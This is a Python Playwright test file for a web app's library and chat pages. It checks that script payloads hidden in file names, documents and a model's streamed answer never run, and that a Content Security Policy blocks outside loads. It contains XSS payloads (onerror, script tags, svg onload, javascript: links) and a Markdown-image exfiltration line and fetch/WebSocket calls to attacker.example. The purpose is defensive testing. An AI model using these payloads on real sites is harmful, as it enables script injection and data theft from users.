"""Scripts in file names, documents and a model's answer never run, and nothing leaves the house; in a real browser."""

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.conftest import Watched, visit
from tests.webui.fake_api.known import BEST, PAGE_TEXT
from tests.webui.house import House

pytestmark = pytest.mark.browser

HOSTILE = (
    "<img src=x onerror=alert(1)> <script>alert(2)</script> <svg onload=alert(3)> "
    "{{constructor.constructor('alert(4)')()}} ![x](https://attacker.example/steal?q=secret) "
    "[link](javascript:alert(5)) `${alert(6)}` </textarea></script><script>alert(7)</script>"
)


def test_a_script_in_a_file_name_never_runs(house: House, chromium: Browser) -> None:
    watched, page = enter(house, chromium)
    house.assistant.add(HOSTILE, "private")

    page.goto(f"{house.url}/library")
    page.get_by_role("heading", name="<img src=x").wait_for()
    page.get_by_role("button", name="Delete <img").click()
    page.get_by_role("heading", name="Delete “<img").wait_for()

    assert_harmless(watched, page, house)


def test_a_script_in_a_document_never_runs(house: House, chromium: Browser) -> None:
    watched, page = enter(house, chromium)
    house.assistant.page_text = PAGE_TEXT.replace(BEST, f"{BEST} {HOSTILE}")
    house.assistant.add("notes.txt", "private")

    page.goto(f"{house.url}/library")
    page.get_by_role("button", name="Read notes.txt").click()
    page.locator(".read-text").get_by_text("<script>alert(2)</script>").wait_for()
    page.keyboard.press("Escape")
    page.get_by_label("Search the words in your files").fill("boiler")
    page.keyboard.press("Enter")
    page.locator(".quote").get_by_text("<script>alert(2)</script>").wait_for()

    assert_harmless(watched, page, house)


def test_a_script_in_the_models_answer_never_runs_while_streaming_and_after(house: House, chromium: Browser) -> None:
    """CVE-2025-64496 and AnythingLLM CVE-2026-32626: the latter ran only while the answer streamed."""
    watched, page = enter(house, chromium)
    house.assistant.add("notes.txt", "private")
    house.assistant.answer, house.assistant.token_seconds = f"Words {HOSTILE} **bold** [1]", 0.1

    page.goto(house.url)
    page.get_by_label("Your question").fill(HOSTILE)
    page.keyboard.press("Enter")
    page.locator(".growing").get_by_text("<svg").wait_for()
    assert_harmless(watched, page, house)
    page.locator(".prose").get_by_text("<svg").wait_for()
    assert_harmless(watched, page, house)
    page.reload()
    page.locator(".prose").get_by_text("<svg").wait_for()

    assert page.locator(".prose img, .prose a, .prose script, .prose svg").count() == 0
    assert_harmless(watched, page, house)


def test_the_policy_stops_what_a_sanitiser_would_miss(house: House, chromium: Browser) -> None:
    """Exfiltration through a Markdown image: even markup that got into the page could not load or send anything."""
    watched, page = enter(house, chromium)
    page.goto(house.url)
    page.locator(".example").first.wait_for()

    page.evaluate(
        """() => {
            const inside = document.createElement("div");
            inside.innerHTML = '<img src="https://attacker.example/a.png"><iframe src="https://attacker.example/"></iframe>'
              + '<img src=x onerror="alert(1)"><link rel="stylesheet" href="https://attacker.example/a.css">';
            document.body.append(inside);
            const script = document.createElement("script");
            script.textContent = "alert(2)";
            document.body.append(script);
            fetch("https://attacker.example/").catch(() => {});
            new WebSocket("wss://attacker.example/");
        }"""
    )
    page.wait_for_timeout(500)

    assert watched.dialogs == []
    refused = [said for said in watched.complaints if "Content Security Policy" in said]
    assert len(refused) >= 6


def enter(house: House, chromium: Browser) -> tuple[Watched, Page]:
    watched = Watched()
    context = visit(chromium, watched)
    context.add_cookies(
        [{"name": "hearth_session", "value": house.assistant.claim(), "url": house.url, "secure": True}]
    )
    return watched, context.new_page()


def assert_harmless(watched: Watched, page: Page, house: House) -> None:
    page.wait_for_timeout(300)
    assert watched.dialogs == []
    assert watched.hosts == {house.url.removeprefix("https://")}
    assert watched.complaints == []
